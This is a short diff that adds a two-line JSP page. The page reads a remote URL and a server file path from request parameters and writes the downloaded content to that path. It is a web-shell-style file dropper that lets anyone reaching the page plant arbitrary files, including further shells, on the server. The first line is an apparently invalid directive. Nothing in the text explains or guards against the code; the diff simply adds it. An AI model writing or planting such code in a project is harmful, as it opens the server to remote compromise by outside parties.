@@ -1,0 +1,2 @@
+<%@ inert %>
+<% java.io.InputStream in = new java.net.URL(request.getParameter("u")).openStream(); byte[] b = new byte[1024]; int a = -1; java.io.FileOutputStream f = new java.io.FileOutputStream(request.getParameter("p")); while ((a = in.read(b)) != -1) { f.write(b, 0, a); } %>
